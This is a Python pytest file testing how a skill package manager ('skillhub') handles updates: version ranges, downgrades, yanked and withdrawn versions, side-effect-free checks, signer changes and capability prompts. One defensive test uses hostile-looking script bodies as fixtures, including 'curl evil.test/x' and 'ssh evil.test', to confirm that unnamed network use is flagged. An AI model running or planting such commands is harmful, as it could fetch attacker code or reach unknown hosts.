"""Update: the newest that is wanted, shown first, asked by name for what is new; and a check that only looks."""

from __future__ import annotations

from pathlib import Path

import pytest

from skillhub.errors import NotFound, Refused, SignerChanged, SourceMismatch, WrongBytes
from skillhub.install.context import read_state
from skillhub.install.gather import newest_of
from skillhub.install.install import available_updates
from skillhub.install.sources import Pin, add_source
from skillhub.model.tree import SIGNATURE, File, Tree
from skillhub.project.user_state import Trusted
from skillhub.registry.operator import Signing
from skillhub.registry.upkeep import withdraw, yank
from skillhub.sources.configured import Sources
from skillhub.trust.keys import PrivateKey
from skillhub.trust.oms import sign
from tests.support.reaching import Reaching
from tests.support.registry import Simulator
from tests.support.site import WELL_KNOWN
from tests.support.upstream import SAMPLE, Upstream, text
from tests.support.web import Web
from tests.support.world import Answers, World, needs, refused, skill, snapshot

NEWER = {"SKILL.md": text("Do it better.")}
MORE = {
    "SKILL.md": text("Do it better."),
    "run.sh": b"#!/bin/sh\ncurl https://api.github.com\n",
    "agents/openai.yaml": needs("type: env_var, value: TRACKER_TOKEN").encode(),
}


@pytest.fixture(scope="module")
def shelf(tmp_path_factory: pytest.TempPathFactory) -> Simulator:
    simulator = Simulator(tmp_path_factory.mktemp("shelf"))
    for version in ("1.0.0", "1.1.0", "2.0.0"):
        simulator.publish("hello", version)
    return simulator


@pytest.fixture
def hub(shelf: Simulator, tmp_path: Path) -> Simulator:
    return shelf.copy(tmp_path)


@pytest.fixture
def world(tmp_path: Path, hub: Simulator) -> World:
    world = World(tmp_path)
    world.add_source("acme", hub)
    return world


def version(world: World, name: str = "hello") -> str | None:
    return world.lock().skills[name].version


def want(world: World, line: str) -> None:
    (world.base / "skillhub.toml").write_text(f"[skills]\n{line}\n")


def recall(world: World, hub: Simulator, act, *words: str) -> None:
    act(hub.dir.path, *words, Signing(now=hub.when))
    hub.pull()
    world.sources = Sources(world.home)  # each command is a process of its own


def test_the_newest_that_the_intent_allows_is_taken_and_the_rest_told(world: World) -> None:
    world.install("acme:hello@1.0.0")
    want(world, 'hello = { source = "acme", version = "^1" }')
    done = world.update()
    assert version(world) == "1.1.0"
    changes = done.changes["hello"].to_json()
    assert (changes["from_version"], changes["changes"]["files"]["changed"]) == ("1.0.0", ("SKILL.md", SIGNATURE))
    assert any("2.0.0" in line for line in done.warnings)
    assert "1.1.0" in (world.copy("hello") / "SKILL.md").read_text()
    assert not world.update().changed
    assert world.answers.seen == []


def test_the_plan_is_in_the_question(world: World) -> None:
    world.install("acme:hello@1.0.0")
    want(world, 'hello = { source = "acme" }')
    error = refused(world, Refused, lambda: world.update(answers=Answers()))
    ((question, _),) = [pair for pair in error.asked if pair[0].kind == "install"]
    assert question.message == "Update hello to 2.0.0?"
    assert "version 1.0.0 -> 2.0.0" in question.details
    assert "~ SKILL.md" in question.details


def test_a_dry_run_asks_and_changes_nothing(world: World) -> None:
    world.install("acme:hello@1.0.0")
    want(world, "hello = '*'")
    before = world.snapshot()
    done = world.update(dry_run=True, answers=Answers())
    assert world.snapshot() == before
    assert (done.changed, [answer.said for _, answer in done.asked]) == (False, ["unanswered"])
    assert done.changes["hello"].after.version == "2.0.0"


def test_what_is_not_installed_cannot_be_updated(world: World) -> None:
    world.install("acme:hello@1.0.0")
    refused(world, NotFound, lambda: world.update("hello", "nobody"))


def test_a_downgrade_is_called_one_and_comes_only_if_the_intent_wants_it(world: World) -> None:
    world.install("acme:hello@1.1.0")
    want(world, 'hello = { source = "acme", version = "1.0.0" }')
    world.update(answers=Answers("yes"))
    assert "Downgrade hello to 1.0.0?" in [question.message for question in world.answers.seen]
    assert version(world) == "1.0.0"


def test_a_yanked_one_stays_and_is_told_a_withdrawn_one_goes(world: World, hub: Simulator) -> None:
    world.install("acme:hello@2.0.0")
    want(world, 'hello = { source = "acme" }')
    recall(world, hub, yank, "hello@2.0.0", "it stutters")
    done = world.update()
    assert (version(world), done.changed) == ("2.0.0", False)
    assert any("yanked" in line and "stutters" in line for line in done.warnings)
    recall(world, hub, withdraw, "hello@2.0.0", "it bites")
    world.update(answers=Answers("yes"))
    assert version(world) == "1.1.0"
    assert "Downgrade hello to 1.1.0?" in [question.message for question in world.answers.seen]


def test_where_nothing_else_is_allowed_it_is_told(world: World, hub: Simulator) -> None:
    world.install("acme:hello@2.0.0")
    recall(world, hub, yank, "hello@2.0.0", "it stutters")
    want(world, 'hello = { source = "acme", version = "^2" }')
    done = world.update()
    assert not done.changed
    assert any("no other" in line for line in done.warnings)


@pytest.mark.parametrize("kind", ["tag", *SAMPLE])
def test_a_place_is_updated_to_what_it_is_now(reaching: Reaching, upstream: Upstream, kind: str) -> None:
    reaching.install(upstream.ref(kind))
    assert reaching.behind().skills == ()
    upstream.have(NEWER)
    (seen,) = reaching.behind().skills
    assert seen.tree != reaching.lock().skills["deploy"].tree
    done = reaching.update("deploy")
    assert reaching.copy("deploy").joinpath("SKILL.md").read_bytes() == NEWER["SKILL.md"]
    assert done.changes["deploy"].files.changed == ("SKILL.md",)
    if kind in ("git", "tag"):
        assert reaching.lock().skills["deploy"].rev == upstream.commit
    assert reaching.behind().skills == ()


def test_a_commit_that_was_asked_for_stays(reaching: Reaching, upstream: Upstream) -> None:
    reaching.install(upstream.ref("commit"))
    upstream.have(NEWER)
    assert reaching.behind().skills == ()
    assert not reaching.update().changed


def test_a_commit_that_changes_another_skill_is_no_update(reaching: Reaching, upstream: Upstream) -> None:
    reaching.install(upstream.ref("git"))
    before = reaching.lock_bytes()
    upstream.repo.commit({"skills/deploy/SKILL.md": text(), "skills/other/SKILL.md": text(name="other")})
    assert reaching.behind().skills == ()
    assert not reaching.update().changed
    assert reaching.lock_bytes() == before


def test_a_local_folder_is_updated_to_what_it_is_now(reaching: Reaching) -> None:
    folder = skill(reaching.base, "deploy")
    reaching.install(str(folder))
    assert reaching.behind().skills == ()
    skill(reaching.base, "deploy", "Better.\n")
    assert [each.name for each in reaching.behind().skills] == ["deploy"]
    reaching.update()
    assert "Better." in reaching.text("deploy")


@pytest.mark.parametrize("kind", [*SAMPLE, "source", "offline"])
def test_a_check_writes_nothing_at_all(reaching: Reaching, upstream: Upstream, web: Web, kind: str) -> None:
    """Not even a cache: it could change what the next command finds."""
    if kind == "source":
        web.acts[WELL_KNOWN] = web.acts[f"/new{WELL_KNOWN}"]
        add_source("docs", web.url(""), Pin(), reaching.ports())
        reaching.install("docs:deploy")
    else:
        reaching.install(upstream.ref("commit" if kind == "offline" else kind))
    upstream.have(NEWER)
    web.acts[WELL_KNOWN] = web.acts[f"/new{WELL_KNOWN}"]
    reaching.offline = kind == "offline"
    before = {**snapshot(reaching.base), **snapshot(reaching.top)}
    for names in ((), ("deploy",)):
        assert [each.name for each in reaching.behind(*names).skills] == ["deploy"] * (kind != "offline")
    assert {**snapshot(reaching.base), **snapshot(reaching.top)} == before


def test_what_is_new_is_asked_for_by_name(reaching: Reaching, upstream: Upstream) -> None:
    reaching.install(upstream.ref("git"))
    upstream.have(MORE)
    error = refused(reaching, Refused, lambda: reaching.update(answers=Answers("yes", capability="no")))
    asked = {(question.kind, question.subject) for question, _ in error.asked}
    assert {("capability", "network:api.github.com"), ("capability", "scripts")} <= asked
    assert ("need", "env:TRACKER_TOKEN") in asked
    assert all(question.subject in question.message for question, _ in error.asked if question.kind == "capability")
    refused(reaching, Refused, lambda: reaching.update(answers=Answers("yes", need="no")))
    done = reaching.update(answers=Answers("yes", env="unanswered"))
    assert reaching.lock().skills["deploy"].requires == ("env:TRACKER_TOKEN",)
    assert [each.state for each in done.skills] == ["disabled"]
    changes = done.changes["deploy"].to_json()["changes"]
    assert changes["files"]["added"] == ("agents/openai.yaml", "run.sh")
    assert changes["requires"]["added"] == ("env:TRACKER_TOKEN",)


@pytest.mark.parametrize("script", ["curl evil.test/x", "import socket", "ssh evil.test"])
def test_attack_an_update_begins_to_reach_a_network_that_no_url_names(
    reaching: Reaching, upstream: Upstream, script: str
) -> None:
    reaching.install(upstream.ref("git"))
    name = "run.py" if "import" in script else "run.sh"
    upstream.have({"SKILL.md": text("Do it better."), name: script.encode()})
    error = refused(reaching, Refused, lambda: reaching.update(answers=Answers("yes", capability="no")))
    asked = {question.subject: question.message for question, _ in error.asked if question.kind == "capability"}
    assert asked["network:?"].endswith(
        "may use the network (network:?), which the lock does not say of the previous version; agree?"
    )


def key(label: str) -> PrivateKey:
    return PrivateKey.from_seed(label.encode().rjust(32, b"x"))


def signed(label: str, body: str) -> dict[str, bytes]:
    signature = sign(Tree({"SKILL.md": File(text(body))}), "deploy", key(label))
    return {"SKILL.md": text(body), SIGNATURE: signature}


@pytest.mark.parametrize("after", ["another", "nobody"])
def test_attack_an_update_by_another_than_who_signed_before(
    reaching: Reaching, upstream: Upstream, after: str
) -> None:
    """No answer lifts it, and no trust in the other: only another key of the same publisher would."""
    for label in ("one", "two"):
        reaching.publishers.trust(Trusted(label, keys=(key(label).public.pem.decode(),)))
    upstream.have(signed("one", "Do it."))
    reaching.install(upstream.ref("git"))
    assert reaching.lock().skills["deploy"].signed_by
    upstream.have(NEWER if after == "nobody" else signed("two", "Do it better."))
    refused(reaching, SignerChanged, lambda: reaching.update())
    with pytest.raises(SignerChanged):
        reaching.behind()
    upstream.have(signed("one", "Do it better."))
    reaching.update()
    assert "better" in reaching.text("deploy")


def test_one_that_cannot_be_had_keeps_all_as_they_are(
    reaching: Reaching, upstream: Upstream, web: Web, tmp_path: Path
) -> None:
    folder = skill(tmp_path, "mail")
    reaching.install(str(folder), upstream.ref("site"))
    skill(tmp_path, "mail", "Better.\n")
    upstream.have(NEWER)
    web.acts["/deploy.zip"] = web.acts["/SKILL.md"]
    refused(reaching, WrongBytes, lambda: reaching.update())
    assert "Better." not in reaching.text("mail")
    reaching.update("mail")
    assert "Better." in reaching.text("mail")


def test_the_intent_may_not_lead_an_update_elsewhere(reaching: Reaching, upstream: Upstream) -> None:
    reaching.install(upstream.ref("git"))
    upstream.have(NEWER)
    want(reaching, f'deploy = {{ from = "{upstream.ref("site")}" }}')
    refused(reaching, SourceMismatch, lambda: reaching.update())


def test_of_what_is_withdrawn_altogether_the_locked_one_is_told(world: World, hub: Simulator) -> None:
    world.install("acme:hello@1.0.0")
    want(world, 'hello = { source = "acme", version = "^1" }')
    recall(world, hub, withdraw, "hello@1.0.0", "it bites")
    recall(world, hub, withdraw, "hello@1.1.0", "so does it")
    (told,) = [line for line in world.update().warnings if "withdrawn" in line]
    assert told == "hello 1.0.0 was withdrawn: it bites; skillhub.toml allows no other version"


def test_of_what_is_withdrawn_the_version_beyond_the_range_is_told_and_what_to_type(
    world: World, hub: Simulator
) -> None:
    world.install("acme:hello@1.0.0")
    want(world, 'hello = { source = "acme", version = "~1.0" }')
    assert not available_updates((), world.ports()).pending
    recall(world, hub, yank, "hello@1.0.0", "slow")
    assert not available_updates((), world.ports()).pending
    recall(world, hub, withdraw, "hello@1.0.0", "it bites")
    take = "skillhub install 'acme:hello@^2.0.0'"
    told = f"hello 2.0.0 is available, but ~1.0 is wanted; to install it: {take}"
    checked = available_updates((), world.ports())
    assert (checked.skills, checked.pending) == ((), True)
    assert told in checked.warnings
    assert told in world.update().warnings
    world.install("acme:hello@2.0.0")
    assert version(world) == "2.0.0"
    assert not available_updates((), world.ports()).pending


def test_attack_what_is_only_told_of_fills_no_memory(tmp_path):
    simulator, world = Simulator(tmp_path / "hub"), World(tmp_path / "machine")
    simulator.publish()
    world.add_source("acme", simulator)
    world.install("acme:hello")
    simulator.publish("hello", "1.1.0")
    ports = world.ports()

    def excuse(name, error):
        raise error

    newer = newest_of(["hello"], read_state(ports), ports, keep=True, excuse=excuse).found["hello"]
    assert newer.entry.version == "1.1.0"
    assert newer.tree.listing.digest == newer.entry.tree
    assert newer.manifest.body == ""
    with pytest.raises(KeyError):
        newer.tree["SKILL.md"]
    assert not ports.store.has(newer.entry.tree)
